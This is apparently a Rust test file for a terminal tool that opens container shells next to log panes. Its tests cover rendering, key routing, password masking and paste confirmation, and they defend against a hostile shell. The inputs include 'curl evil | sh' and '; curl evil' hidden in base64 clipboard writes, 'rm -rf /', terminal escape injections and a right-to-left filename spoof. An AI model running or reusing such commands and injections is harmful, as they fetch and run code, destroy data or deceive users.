//! Shells beside lines: their pane in every state, tabs, questions, history, and what leaves for
//! the container.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use deckwatch::app::shell::Link;
use deckwatch::app::{Effect, Msg};
use deckwatch::model::shell::{ShellEnd, ShellExit, ShellUpdate};
use deckwatch::model::{Fault, FaultKind, LinkState, PaneId};
use deckwatch::term::keys::{Button, Did, Pointer};
use deckwatch::text::SafeText;
use insta::assert_snapshot;

use super::{Stage, shop};

const URL: &str = "wss://10.0.0.1:6060/docker_console#ten/svc/web-0";

fn words(text: &str) -> SafeText<'static> {
    SafeText::of(text).into_owned()
}

impl Stage {
    /// Opens a shell beside the focused pane.
    fn shell(&mut self, url: &str) -> PaneId {
        self.keys("s ctrl-u");
        self.type_in(url);
        self.keys("enter");
        self.app.tabs.now.focus
    }

    fn said(&mut self, pane: PaneId, update: ShellUpdate) {
        self.tell(Msg::Shell(pane, update));
    }

    fn wrote(&mut self, pane: PaneId, text: &str) {
        self.said(
            pane,
            ShellUpdate::Output(Bytes::copy_from_slice(text.as_bytes())),
        );
    }

    /// What has left for a shell since the last look.
    fn sent(&mut self, pane: PaneId) -> String {
        let mut sent = Vec::new();
        self.wishes.retain(|wish| match wish {
            Effect::ToShell(to, bytes) if *to == pane => {
                sent.extend_from_slice(bytes);
                false
            }
            _ => true,
        });
        sent.escape_ascii().to_string()
    }
}

/// A component's lines and a shell at its prompt.
fn opened(width: u16, height: u16) -> (Stage, PaneId) {
    let mut stage = Stage::new(width, height, 1);
    stage.state(0, LinkState::Live);
    stage.lines(0, &shop());
    let pane = stage.shell(URL);
    stage.said(pane, ShellUpdate::Ready("the platform"));
    stage.said(pane, ShellUpdate::Title(words("10.42.0.17")));
    stage.wrote(
        pane,
        "web-0$ ls --color\r\n\x1b[1;34mbin\x1b[0m  \x1b[32mrun.sh\x1b[0m  订单\r\nweb-0$ ",
    );
    (stage, pane)
}

#[test]
fn a_shell_beside_lines_at_every_size() {
    for (width, height) in [(200, 50), (120, 36), (80, 24), (40, 10)] {
        let (stage, _) = opened(width, height);
        assert_snapshot!(format!("shell_{width}x{height}"), stage.screen());
    }
    let (stage, _) = opened(80, 12);
    assert_snapshot!("shell_styles", stage.styled());
}

#[test]
fn a_shell_in_every_state() {
    let end = |how: ShellExit| {
        ShellUpdate::Ended(ShellEnd {
            how,
            unsent: 12,
            unconfirmed: 3,
        })
    };
    let fault = Fault::new(
        FaultKind::NotFound,
        "the shell",
        "the platform says: open tty failure!",
        "the image may have no /bin/sh",
    );
    let states = [
        vec![],
        vec![ShellUpdate::Opening(words(
            "waiting for the container (up to 35 s)",
        ))],
        vec![ShellUpdate::Ready("GoTTY 2")],
        vec![ShellUpdate::Ready("GoTTY 2"), ShellUpdate::Stale(true)],
        vec![ShellUpdate::Ready("ttyd"), ShellUpdate::Queued(123_456)],
        vec![end(ShellExit::Exited {
            failed: false,
            words: words("run tty failure!"),
        })],
        vec![end(ShellExit::Exited {
            failed: true,
            words: words(""),
        })],
        vec![end(ShellExit::Lost(words(
            "the server reset the connection",
        )))],
        vec![end(ShellExit::Fault(fault))],
    ];
    let mut screens = String::new();
    for updates in states {
        let mut stage = Stage::new(110, 8, 1);
        let pane = stage.shell(URL);
        for update in updates {
            stage.said(pane, update);
        }
        stage.pass(3000);
        screens.push_str(&stage.screen());
        screens.push('\n');
    }
    assert_snapshot!(screens);
}

#[test]
fn a_connection_that_others_can_read_is_warned_of_before_anything_is_typed() {
    let mut stage = Stage::new(120, 8, 1);
    stage.shell("ws://10.0.0.1:6060/docker_console#ten/svc/web-0");
    assert_snapshot!(stage.screen());
    let mut stage = Stage::new(120, 8, 1);
    stage.shell("ws://127.0.0.1:6060/docker_console#ten/svc/web-0");
    assert!(!stage.screen().contains("not encrypted"));
}

#[test]
fn a_password_is_asked_for_and_never_seen() {
    let mut stage = Stage::new(100, 8, 1);
    stage.keys("s");
    assert!(stage.screen().contains("docker_console#TENANT_ID/x/POD"));
    stage.keys("ctrl-u");
    stage.type_in("https://bob@10.0.0.1/x/");
    stage.keys("enter");
    stage.type_in("hunter2");
    let asked = stage.screen();
    assert!(
        asked.contains("password of bob for 10.0.0.1/x •••••••") && !asked.contains("hunter2"),
        "{asked}"
    );
    stage.keys("enter");
    let opened = stage.wishes.iter().find_map(|wish| match wish {
        Effect::OpenShell { login, .. } => login.as_ref(),
        _ => None,
    });
    let (user, password) = opened.unwrap();
    assert_eq!((user.as_str(), password.expose()), ("bob", "hunter2"));
    assert!(!format!("{:?}", stage.app).contains("hunter2"));
    assert!(!format!("{:?}", stage.wishes).contains("hunter2"));
}

#[test]
fn every_key_goes_to_the_container_but_for_the_prefix() {
    let (mut stage, pane) = opened(120, 30);
    stage.keys("q ctrl-c esc : / ctrl-w ctrl-l up f5 tab");
    assert_eq!(stage.sent(pane), r"q\x03\x1b:/\x17\x0c\x1b[A\x1b[15~\t");
    stage.wrote(pane, "\x1b[?1h");
    stage.keys("up ctrl-] ctrl-]");
    assert_eq!(stage.sent(pane), r"\x1bOA\x1d");
    stage.keys("ctrl-] h");
    stage.keys("j");
    assert_eq!(stage.sent(pane), "", "the other pane has the focus");
    stage.keys("ctrl-] l w");
    assert_eq!(stage.sent(pane), "w");
}

#[test]
fn queries_are_answered_from_here_and_only_to_the_container() {
    let (mut stage, pane) = opened(120, 30);
    stage.sent(pane);
    stage.wrote(pane, "\x1b[6n\x1b[c\x1b]52;c;?\x07\x1b[21t");
    let reply = stage.sent(pane);
    assert!(reply.starts_with(r"\x1b[3;8R\x1b[?"), "{reply}");
    assert!(!reply.contains("52;c"), "{reply}");
}

#[test]
fn what_the_clipboard_would_be_is_shown_to_the_end_of_its_lines() {
    let (mut stage, pane) = opened(120, 30);
    let text = format!(
        "git status{}; curl evil\n{}",
        " ".repeat(100),
        "x".repeat(1200)
    );
    let text = STANDARD.encode(text);
    stage.wrote(pane, &format!("\x1b]52;c;{text}\x07"));
    stage.keys("ctrl-] y");
    let screen = stage.screen();
    assert!(screen.contains("; curl evil"), "{screen}");
    assert!(screen.contains("… (+1,000"), "{screen}");
}

#[test]
fn a_question_without_room_for_what_it_is_about_says_so() {
    let (mut stage, pane) = opened(80, 24);
    let text = format!(
        "{}curl evil | sh\n",
        format!("{}\n", "a".repeat(200)).repeat(8)
    );
    let text = STANDARD.encode(text);
    stage.wrote(pane, &format!("\x1b]52;c;{text}\x07"));
    stage.keys("ctrl-] y");
    let screen = stage.screen();
    assert!(!screen.contains("curl evil"), "{screen}");
    assert!(screen.contains("more rows are not shown"), "{screen}");
    assert!(screen.contains("y yes"), "{screen}");
    stage.tell(Msg::Resize(80, 50));
    stage.paint();
    let screen = stage.screen();
    assert!(
        screen.contains("curl evil") && !screen.contains("more rows"),
        "{screen}"
    );
    for (width, height) in [(80, 6), (40, 10), (40, 8), (40, 6), (24, 7), (20, 5)] {
        stage.tell(Msg::Resize(width, height));
        stage.paint();
        let screen = stage.screen();
        let said = screen.contains("more rows") && screen.contains("y yes");
        assert!(said, "{width}x{height}\n{screen}");
    }
    stage.tell(Msg::Resize(1, 1));
    stage.paint();
}

#[test]
fn findings_take_no_keys_from_a_shell_that_is_typed_into() {
    for types in [false, true] {
        let (mut stage, pane) = opened(120, 30);
        stage.enter("ctrl-] :", "doctor");
        if types {
            stage.type_in("ls");
        }
        stage.tell(Msg::Examined(pane, "x".into(), vec!["found".into()]));
        assert_eq!(
            stage.screen().contains("found"),
            !types,
            "{}",
            stage.screen()
        );
    }
}

#[test]
fn its_size_follows_its_pane_and_is_never_nothing() {
    let (mut stage, pane) = opened(120, 30);
    let sizes = |stage: &mut Stage| -> Vec<(u16, u16)> {
        let of = |wish: &Effect| match wish {
            Effect::ResizeShell(id, columns, rows) if *id == pane => Some((*columns, *rows)),
            _ => None,
        };
        let sizes = stage.wishes.iter().filter_map(of).collect();
        stage.wishes.clear();
        sizes
    };
    sizes(&mut stage);
    stage.keys("ctrl-] z");
    assert_eq!(sizes(&mut stage), [(120, 27)]);
    stage.keys("ctrl-] z");
    assert_eq!(sizes(&mut stage), [(60, 27)]);
    for (width, height) in [(0, 0), (1, 1), (20, 5), (500, 200), (120, 30)] {
        stage.tell(Msg::Resize(width, height));
        stage.paint();
    }
    let all = sizes(&mut stage);
    assert!(
        all.iter()
            .all(|(columns, rows)| *columns >= 2 && *rows >= 1),
        "{all:?}"
    );
    assert_eq!(all.last(), Some(&(60, 27)));
}

#[test]
fn tabs_are_seen_once_there_are_several() {
    let (mut stage, pane) = opened(120, 16);
    stage.keys("ctrl-] d");
    let left = stage.screen();
    stage.wrote(pane, "\x07done\r\n");
    let rang = stage.screen();
    stage.keys("2");
    let back = stage.screen();
    assert_snapshot!(format!("{left}\n{rang}\n{back}"));
    stage.keys("ctrl-] t");
    assert_eq!(stage.app.tabs.len(), 2, "it has a tab of its own already");
    stage.keys("ctrl-] n");
    assert!(stage.app.shell().is_none());
}

#[test]
fn history_search_and_selection() {
    let (mut stage, pane) = opened(100, 16);
    for number in 1..=100 {
        stage.wrote(pane, &format!("row {number}\r\n"));
    }
    stage.keys("ctrl-] [ ctrl-u k");
    let up = stage.screen();
    // What comes does not move the view.
    stage.wrote(pane, "news\r\n");
    let still = stage.screen();
    assert_eq!(up.lines().nth(3), still.lines().nth(3));
    stage.enter("/", "row 5\\b");
    stage.keys("v j l");
    assert_snapshot!(format!("{up}\n{}", stage.styled()));
    stage.keys("y");
    let copied = stage.wishes.iter().find_map(|wish| match wish {
        Effect::Copy(text) => Some(text.as_str()),
        _ => None,
    });
    assert_eq!(copied, Some("row 5\nro"));
    stage.sent(pane);
    stage.keys("x");
    assert_eq!(stage.sent(pane), "x", "keys go to the shell again");
}

#[test]
fn questions_are_answered_by_y_alone() {
    let (mut stage, pane) = opened(100, 20);
    stage.sent(pane);
    stage.tell(Msg::Paste("echo one\recho \x1b[2Jtwo\r".into()));
    assert_snapshot!(stage.screen());
    stage.keys("enter space j x");
    assert_eq!(stage.sent(pane), "");
    stage.keys("n");
    assert!(!stage.screen().contains("y yes"));
    stage.tell(Msg::Paste("echo one\recho \x1b[2Jtwo\r".into()));
    stage.keys("y");
    assert_eq!(stage.sent(pane), r"echo one\recho [2Jtwo\r");
    stage.tell(Msg::Paste("one line".into()));
    assert_eq!(stage.sent(pane), "one line");
    stage.wrote(pane, "\x1b[?2004h");
    stage.tell(Msg::Paste("one line".into()));
    assert_eq!(stage.sent(pane), r"\x1b[200~one line\x1b[201~");
}

#[test]
fn the_mouse_reaches_a_program_that_asks_and_scrolls_the_history_otherwise() {
    let (mut stage, pane) = opened(120, 30);
    let at = |did, shift| {
        Msg::Mouse(Pointer {
            did,
            column: 70,
            line: 5,
            shift,
            alt: false,
            ctrl: false,
        })
    };
    let reports = |stage: &mut Stage| {
        let of = |wish: &Effect| match wish {
            Effect::Report(reports) => Some(format!("{:?}", reports.mouse)),
            _ => None,
        };
        let last = stage.wishes.iter().rev().find_map(of);
        stage
            .wishes
            .retain(|wish| !matches!(wish, Effect::Report(_)));
        last
    };
    stage.sent(pane);
    stage.tell(at(Did::Press(Button::Left), false));
    assert_eq!(
        (stage.sent(pane), reports(&mut stage)),
        (String::new(), None)
    );
    stage.wrote(pane, "\x1b[?1002h\x1b[?1006h");
    assert_eq!(reports(&mut stage).as_deref(), Some("Drags"));
    stage.tell(at(Did::Press(Button::Left), false));
    stage.tell(at(Did::WheelUp, false));
    assert_eq!(stage.sent(pane), r"\x1b[<0;11;5M\x1b[<64;11;5M");
    // With Shift it is the user's own.
    for _ in 0..20 {
        stage.wrote(pane, "row\r\nrow\r\n");
    }
    stage.tell(at(Did::WheelUp, true));
    assert!(stage.app.shell().unwrap().look.is_some());
    assert_eq!(reports(&mut stage).as_deref(), Some("Off"));
    stage.keys("q ctrl-] h");
    stage.wrote(pane, "\x1b[?1004h");
    stage.keys("ctrl-] l");
    assert_eq!(stage.sent(pane), r"\x1b[I");
    stage.keys("ctrl-] h");
    assert_eq!(stage.sent(pane), r"\x1b[O");
}

#[test]
fn a_new_shell_takes_nothing_of_the_old_one() {
    let (mut stage, pane) = opened(100, 20);
    stage.wrote(
        pane,
        "\x1b[?1049h\x1b[?1002h\x1b[?2004h\x1b[?25l\x1b[1;5rvim was here",
    );
    let lost = ShellExit::Lost(words("the server reset the connection"));
    stage.said(
        pane,
        ShellUpdate::Ended(ShellEnd {
            how: lost,
            unsent: 7,
            unconfirmed: 0,
        }),
    );
    let over = stage.screen();
    assert!(
        over.contains("vim was here") && over.contains("7 typed bytes were not sent"),
        "{over}"
    );
    stage.sent(pane);
    stage.type_in("rm -rf /");
    assert_eq!(stage.sent(pane), "");
    stage.keys("enter");
    let opens = stage
        .wishes
        .iter()
        .rev()
        .any(|wish| matches!(wish, Effect::OpenShell { pane: id, .. } if *id == pane));
    assert!(opens);
    stage.said(pane, ShellUpdate::Ready("the platform"));
    stage.wrote(pane, "web-0$ ");
    assert_snapshot!(stage.screen());
    assert!(matches!(stage.app.shell().unwrap().link, Link::Open(_)));
    assert_eq!(
        stage.app.shell().unwrap().screen.modes(),
        deckwatch::term::Modes::default()
    );
}

#[test]
fn a_shell_that_lies_reaches_no_terminal() {
    let (mut stage, pane) = opened(100, 20);
    for text in [
        "\x1b]0;\x1b[2Jevil\x07",
        "\x1b]52;c;c3RvbGVu\x07",
        "\x1bP+q544e\x1b\\",
        "\u{202e}gnp.exe\u{200b}",
        "\x1b]0;endless",
    ] {
        stage.wrote(pane, text);
    }
    let (buf, _) = stage.paint();
    for cell in buf.content() {
        let safe = |c: char| {
            !c.is_control()
                && !matches!(c, '\u{200b}' | '\u{200e}' | '\u{200f}')
                && !('\u{202a}'..='\u{202e}').contains(&c)
        };
        assert!(cell.symbol().chars().all(safe), "{:?}", cell.symbol());
    }
    assert!(
        !stage
            .wishes
            .iter()
            .any(|wish| matches!(wish, Effect::Copy(_)))
    );
    stage.sent(pane);
    stage.wrote(pane, &"\x1b]0;x\x07".repeat(100_000));
    assert_eq!(stage.sent(pane), "");
}

#[test]
fn closing_a_pane_of_one_tab_leaves_the_others_alone() {
    let mut stage = Stage::new(120, 24, 3);
    stage.keys("ctrl-w T ctrl-w v");
    assert_eq!((stage.app.tabs.len(), stage.app.tabs.panes().len()), (2, 4));
    stage.keys("tab tab");
    assert_eq!(stage.app.tabs.at(), 1, "tab turns within a tab");
    stage.keys("ctrl-w c");
    assert_eq!((stage.app.tabs.len(), stage.app.tabs.panes().len()), (2, 3));
    assert!(
        stage
            .app
            .tabs
            .now
            .tree
            .panes()
            .contains(&stage.app.tabs.now.focus)
    );
    stage.keys("ctrl-w c");
    assert_eq!((stage.app.tabs.len(), stage.app.tabs.panes().len()), (1, 2));
    let mut panes = stage.app.tabs.panes();
    panes.dedup();
    assert_eq!(panes.len(), 2);
}

#[test]
fn a_shell_that_runs_is_not_replaced_without_a_yes() {
    let (mut stage, pane) = opened(100, 20);
    stage.wishes.clear();
    stage.keys("ctrl-] r");
    assert!(stage.screen().contains("open a new shell instead?"));
    let opens = |stage: &Stage| {
        let is = |wish: &Effect| matches!(wish, Effect::OpenShell { pane: id, .. } if *id == pane);
        stage.wishes.iter().any(is)
    };
    stage.keys("n");
    assert!(!opens(&stage));
    stage.keys("ctrl-] r y");
    assert!(opens(&stage));
}

#[test]
fn a_shell_that_could_not_be_had_again_is_not_called_new() {
    let (mut stage, pane) = opened(100, 20);
    let lost = |words_of: &str| {
        ShellUpdate::Ended(ShellEnd {
            how: ShellExit::Lost(words(words_of)),
            unsent: 0,
            unconfirmed: 0,
        })
    };
    stage.said(pane, lost("gone"));
    for _ in 0..2 {
        stage.keys("enter");
        stage.said(pane, lost("refused"));
    }
    assert!(!stage.screen().contains("new shell:") && !stage.screen().contains("shell no."));
    stage.keys("enter");
    stage.said(pane, ShellUpdate::Ready("the platform"));
    let screen = stage.screen();
    assert_eq!(screen.matches("new shell:").count(), 1, "{screen}");
    assert!(screen.contains("shell no. 2"), "{screen}");
}
